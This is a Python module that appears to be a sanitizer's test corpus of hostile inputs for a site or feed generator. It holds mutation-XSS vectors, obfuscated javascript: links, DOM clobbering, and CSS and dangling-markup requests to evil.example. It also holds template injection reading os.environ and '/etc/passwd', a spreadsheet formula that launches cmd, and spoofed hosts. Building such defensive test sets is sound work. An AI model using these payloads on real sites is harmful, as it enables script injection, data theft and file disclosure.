"""The newest vectors of our own: they are tried behind all others, so that eighths of a run stay what they are."""

from __future__ import annotations

CALL = "alert(1)"
IMAGE = f"<img src=x onerror={CALL}>"

REPARSED = (
    f"<math><mi><table><mglyph><svg><mtext><textarea><path id='</textarea>{IMAGE}'>",
    f"<svg><desc><template><title><style></title>{IMAGE}</style></template></desc>",
    f"<template><tr></tr><td><math><annotation-xml encoding=TEXT/HTML><title></td>{IMAGE}</title>",
    f"<noscript><style></noscript>{IMAGE}</style>",
    f"<noembed><noframes></noembed>{IMAGE}</noframes>",
    f"<textarea><title></textarea>{IMAGE}</title>",
    f"<title><math></title><style></math>{IMAGE}</style>",
    f"<svg><p><style><b title='</style>{IMAGE}'></b></style>",
    f"<math><p></p><style><!--</style>{IMAGE}--></style></math>",
    f"<svg><title><svg><title></title></svg><style></title>{IMAGE}</style></svg>",
    f"<select><keygen><textarea></select>{IMAGE}</textarea>",
    f"<table><tr><form><svg><td></form><style></table>{IMAGE}</style>",
    f"<h1><a><h2><a><svg><style><a id='</style>{IMAGE}'></a></style></svg></h2></a></h1>",
    f"<b><p><a><b><p><a><math><style></b>{IMAGE}</style></math>",
    f"<svg><foreignObject><p><svg><foreignObject></p><style></foreignObject>{IMAGE}</style>",
    f"<plaintext/><listing><xmp></listing>{IMAGE}</xmp>",
    f"<svg><style>/*<![CDATA[*/</style>{IMAGE}/*]]>*/</style></svg>",
    f"<frameset></frameset><noframes><p id='</noframes>{IMAGE}'></noframes>",
    "<svg><script>&lt;/script>&#x61;lert(1)</script><script xlink:href=data:,alert(1) /></svg>",
    f"<p>{'<i>' * 520}<svg><style><a title='</style>{IMAGE}'>",
)
"""What a second parser reads otherwise than the first: raw text within other raw text, in three namespaces."""

LEADING = (
    "<a href='\x0bjavascript:alert(1)'>x</a><a href='jav\x0aascript\x0d:\x09alert(1)'>y</a>",
    "<a href='javascript&#0000058;&#97lert(1)'>x</a><a href='&#x000006A;avascript&#x3a;alert(1)'>y</a>",
    "<a href='data:application/xhtml+xml;base64,PHNjcmlwdCB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMTk5OS94aHRtbCI+'>x</a>",
    "<a href='data:text/xml,<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a><a href='livescript:x'>y</a><a href='mocha:x'>z</a><a href='blob:x'>w</a>",
    "<a href='http://xn--80ak6aa92e.example/'>https://apple.example/</a><a href='http://аррӏе.example'>y</a>",
    "<a href='http://a.example%2f@evil.example/'>x</a><a href='http://a.example%00.evil.example/'>y</a>",
    "<a href='intent://x#Intent;scheme=javascript;S.browser_fallback_url=javascript:alert(1);end'>x</a>",
    "<a target=_blank rel=opener href='https://evil.example/x'>x</a><a download='x.html' href='data:,x'>y</a>",
    "<svg><a href='?'><animate attributeName=href values="
    "'javascript:alert(1);x' begin=0s fill=freeze /><rect/></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href from=javascript:alert(1) to=1 />"
    "<a id=x><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x'/></svg>",
    "<svg><animateMotion onbegin=alert(1) dur=1s><mpath href=#x /></animateMotion><discard onbegin=alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /><set attributeName=innerHTML to='<img src=x>' /></svg>",
    "<form id=f action=javascript:alert(1)></form><input form=f type=submit formtarget=_top><output form=f>x</output>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;' sandbox='allow-scripts allow-same-origin'></iframe>",
    "<iframe credentialless allow='camera *' csp='script-src *' src='//evil.example/x' name=alert(1)></iframe>",
    "<object type=text/html><param name=src value=javascript:alert(1)>"
    "</object><embed type=image/svg+xml src='data:,x'>",
)
"""Where a link, a frame or a drawing leads."""

CLOBBERING = (
    "<form name=body><input name=childNodes><input name=parentNode><img name=attributes></form>",
    "<a id=config></a><a id=config name=url href='//evil.example/x'></a><img name=currentScript src=x>",
    "<form id=search><input id=pagefind name=action value=javascript:alert(1)></form><img id=query name=query>",
    "<output id=results>x</output><ul id=results></ul><p id=__proto__></p><p id=constructor name=prototype></p>",
    "<iframe name=self srcdoc='<a id=location href=javascript:alert(1)>"
    "'></iframe><form id=document name=cookie></form>",
    "<p id='x\" onclick=alert(1)' class='torture-end' data-pagefind-body "
    "data-pagefind-meta='url:javascript:alert(1)'>x</p>",
    "<html id=x onclick=alert(1) manifest=//evil.example/x><body onpageshow=alert(1) onhashchange=alert(1) class=x>",
)
"""What takes the names that scripts look for, or the attributes that the search reads."""

STYLED = (
    "<style>p{background:url('//evil.example/x')}</style><p style=\"background:u\\72l(//evil.example/y)\">x</p>",
    "<style>@import url(//evil.example/a.css) layer(x) supports(display:grid);@charset 'x';</style>",
    "<style>@property --x{syntax:'<url>';inherits:true;"
    "initial-value:url(//evil.example/x)}p{background:var(--x)}</style>",
    "<p style='list-style:url(//evil.example/x);border-image:url("
    "//evil.example/y) 1;shape-outside:url(//evil.example/z)'>x",
    "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(//evil.example/x#y)'>x</p>",
    "<link rel=stylesheet href='data:text/css,@import%20%22//evil.example/x%22'>"
    "<link rel=prerender href=//evil.example>",
    "<link rel=modulepreload href=//evil.example/x.js>"
    "<link rel=manifest href=//evil.example/m><link rel=icon href=//evil.example/i>",
    "<input type=text value=x style='background:cross-fade(url(//evil.example/x),url(//evil.example/y),50%)'>",
)
"""What a sheet of style asks for."""

SPOKEN = (
    '{"@context":"https://schema.org","headline":"x\\u003c/script\\u003e<script>alert(1)</script>"}',
    '"}</script\x00><script>alert(1)</script>{"x":"',
    "</script\u00a0><script>alert(1)</script \u3000>",
    "<!--\u2028<script>\u2029alert(1)</script>--!><script>alert(1)",
    "]]>\u0085]]&gt;<![CDATA[<x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>]]>",
    "\"/><a10:link xmlns:a10='http://www.w3.org/2005/Atom' rel='replies' href='javascript:alert(1)'/><x y=\"",
    "'/><link rel='enclosure' type='text/html' href='data:text/html,<script>alert(1)</script>'/><x y='",
    "</summary></entry><entry><title type='xhtml'>"
    "<div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></div>",
    "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#x'?><x id='x'/>",
    "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
)
"""What ends the data of a page, or an element of a feed."""

MARKED = (
    "[x](javascript&#58alert(1)) [y](&#106avascript:alert(1)) [z](<javascript\\:alert(1)>) [w](java\\script:alert(1))",
    '[x](# "&quot; onmouseover=alert(1) x=&quot;") ![x](# \'"onerror=alert(1)\') [y](# (\\"onclick=alert(1)))',
    "[x]( <>\"onclick=alert(1)\" ) [y](<> 'z'onclick=alert(1)) [z](\\)onclick=alert(1))",
    "![a\\](javascript:alert(1))](javascript:alert(1)) ![`](x`onerror=alert(1)) ![<!--](-->)",
    "[<u>x</u>][*] \n\n[*]: <data:text/html,%3Cscript%3Ealert(1)%3C/script%3E> (\n<img src=x onerror=alert(1)>\n)",
    "<http://a.example/?x=\"onclick=alert(1)> <https://a.example/&quot;onclick=alert(1)> <ftp://a.example/'x'>",
    "* * *\n***<img src=x onerror=alert(1)>***\n- - -\n<hr onclick=alert(1)>\n___",
    "x <!-- y\n\nz --> <img src=x onerror=alert(1)>\n\n<?x\n\n?><img src=x onerror=alert(1)>\n\n<!X\n\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt; &#0; &#xD800; &#x110000;",
    "# <img src=x onerror=alert(1)>{#x onclick=alert(1)} #\n\n<h1 onclick=alert(1)>\n===\n\n</h1>\n---",
    "| <b onclick=alert(1)> |\n|:--|\n| <!-- | --> <img src=x onerror=alert(1)>"
    " |\n| `<script>` | \\`<svg/onload=alert(1)>` |",
    '{.caption image="javascript:alert(1)" onclick="alert(1)"}\n\n{.caption image=\'x\'>'
    "<img src=x onerror=alert(1)>}\nx",
    "$$<img src=x onerror=alert(1)>$$ \\(<svg/onload=alert(1)>"
    "\\) :smile:<img/src/onerror=alert(1)>: ==<x/onclick=alert(1)>==",
    "<details>\n<summary onclick=alert(1)>\n\n*x*\n\n</summary>"
    "\n<style>\n\n*{background:url(//evil.example/x)}\n\n</style>",
    "    <img src=x onerror=alert(1)>\n\t<svg/onload=alert(1)>"
    "\n\n~~~ <img/src/onerror=alert(1)>\n</code></pre><svg/onload=alert(1)>",
)
"""What Markdown of some kind makes markup of."""

FORMATTED = (
    "100% of %(number)s %s %d %n {0} {number} {n!r} {self.__class__} $name ${{name}}<img src=x onerror=alert(1)>",
    '%(url)s"><img src=x onerror=alert(1)>%(host)s{{ super() }}{{ caller() }}',
    "{{ page.site }}{{ _('<img src=x onerror=alert(1)>') }}{{ lipsum.__globals__['os'].environ }}",
    "{%- set x = namespace() -%}{{ x }}{% from '_parts.html' import card %}{{ card }}<svg/onload=alert(1)>",
    "{% extends '/etc/passwd' %}{% block main %}<img src=x onerror=alert(1)>{% endblock %}{% endraw %}",
    "\\1\\g<0>\\g<name>\\x3cimg src=x onerror=alert(1)\\x3e\\u003csvg/onload=alert(1)\\u003e",
    "\x1b[8m<img src=x onerror=alert(1)>\x1b[0m\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x9b31m",
    "::error file=x::y%0A::add-mask::z ##[command]<img src=x onerror=alert(1)>",
    '=HYPERLINK("javascript:alert(1)","x") +cmd|\' /C calc\'!A0 @SUM(1) -1+1',
)
"""What formats text: of Python, of its expressions, of templates, of terminals, of what reads logs and tables."""

TOLD_APART = (
    "a\rguid: urn:uuid:11111111-1111-1111-1111-111111111111\rpath: stories/../x.md\r\r<img src=x onerror=alert(1)>",
    "a\npath: stories/x.md\n\n---\ntitle: <img src=x onerror=alert(1)>\n---\n\nseen: x  y",
    "a\tb\tc\u2028page index.html\x85edition 1 2025-W01\x1clist TAG a <img src=x onerror=alert(1)>",
    "edition 999999999 2025-W32",
    "page ../../<img src=x onerror=alert(1)>.html",
    "list TAG x <img src=x onerror=alert(1)>",
    "x\n.. note:: y\n:save_as: ../x.html\n:template: /etc/passwd\n\n<img src=x onerror=alert(1)>",
    "x\r\n\r\n<html><script>alert(1)</script>\r\nLocation: javascript:alert(1)\r\n",
    "zz\n</loc><loc>javascript:alert(1)</loc><xhtml:link href='javascript:alert(1)'/>",
    '" htmlUrl="javascript:alert(1)"/><outline type="rss" xmlUrl="javascript:alert(1)" text="',
)
"""What begins a line, a record or an element of a file that is written."""

NUMBERED = (
    "[x](http://2130706433/) [y](http://0x7f.1/) [z](http://017700000001/) [w](http://[::ffff:7f00:1]/)",
    "[x](http://[v1.a]/) [y](http://a.example:0x50/) [z](http://a.example:65536/) [w](http://a.example:-1/)",
    "<a href='//2130706433'>x</a><a href='http://①②⑦.⓪.⓪.①/'>y</a><a href='http:\\\\0x7f.1\\x'>z</a>",
    "http://good.example／@evil.example/ http://good.example＼.evil.example/ http://good。example/",
    "https://good.example%2f%2e%2e%2f@evil.example/?https://good.example/#@good.example/",
    "<a href=' \x1fhttps://evil.example/ a b.html \x1f'>x</a><a href='java script:alert(1)'>y</a>",
    "<a href='mailto:a@a.example?attach=/etc/passwd&bcc=b@b.example%0aX:%20y'>x</a><a href='tel:*#06#'>y</a>",
    "[x](mailto:a@a.example?body=%3Cscript%3Ealert(1)%3C/script%3E) [y](sms:1) [z](ms-msdt:/id) [w](search-ms:query=x)",
)
"""Hosts and mailboxes that are written otherwise than they are read."""

UNSEEN_IN_WORDS = (
    "\U000e003cimg\U000e0020src=x\U000e003e \U000e0001\U000e0065\U000e006e<img src=x onerror=alert(1)>\U000e007f",
    "\u2062\u2063\u2064\u206a\u206fjava\u2061script:alert(1) \u180e\u115f\u3164\uffa0<svg/onload=alert(1)>",
    "<\u0300img src=x onerror=alert(1)> <\ufe00img src=x onerror=alert(1)> \uff1cimg src=x onerror=alert(1)\uff1e",
    "‹script›alert(1)‹/script› ＜svg/onload=alert(1)＞ ﹤img src=x onerror=alert(1)﹥ \u2039b\u203a",
    "\ufff9<img src=x onerror=alert(1)>\ufffa\ufffb \u061c\u2066</p>\u2069<img src=x onerror=alert(1)>",
    "ſcript:alert(1) <ſcript>alert(1)</ſcript> <ıframe onload=alert(1)> <İmg src=x onerror=alert(1)>",
)
"""What hides in words, or becomes a mark when letters are folded."""

OBJECTS = (
    "__proto__",
    "constructor.prototype",
    "toString",
    'hasOwnProperty"]=alert(1)//',
    "[object Object]<img src=x onerror=alert(1)>",
    "<mark>x</mark><mark><img src=x onerror=alert(1)></mark>&lt;mark&gt;<svg/onload=alert(1)>",
    "null undefined NaN -0 1e999 \u0000 true",
)
"""What a script finds in every object, or an index of words sets around what was found."""

PARSED_LATE = (
    "<p><![CDATA[ x ]]]]><![CDATA[> ]]&gt; &#93;&#93;&#62; <img src=x onerror=alert(1)>",
    "&lt;![CDATA[&lt;img src=x onerror=alert(1)&gt;]]&gt;"
    " &amp;lt;![CDATA[&amp;lt;svg/onload=alert(1)&amp;gt;]]&amp;gt;",
    "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></desc></svg><![cdata[x]]>",
    "<select><hr><button><selectedcontent><img src=x onerror=alert(1)></button></select>",
    "<p><table><caption><p><svg><foreignObject><table><td></p><style></caption><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding=text/html><svg><desc><math><mi><style></mi><img src=x onerror=alert(1)></style>",
    "<input type=image src=//evil.example/x formaction=javascript:alert(1)>"
    "<img usemap=#m><map name=m><area href='//evil.example'>",
    "<img src='//evil.example/?x=",
    "<base target='x<'><a href=//evil.example/x><form action='//evil.example/?",
    "<textarea form=f name=x>",
    "<button type=submit form=search formaction=//evil.example/>x</button><noscript>",
)
"""What a parser leaves open, or joins with what follows."""

NEWEST = (*REPARSED, *LEADING, *CLOBBERING, *STYLED, *SPOKEN, *MARKED)

LATEST = (*FORMATTED, *TOLD_APART, *NUMBERED, *UNSEEN_IN_WORDS, *OBJECTS, *PARSED_LATE)
"""What came after `NEWEST`, and is tried behind it."""
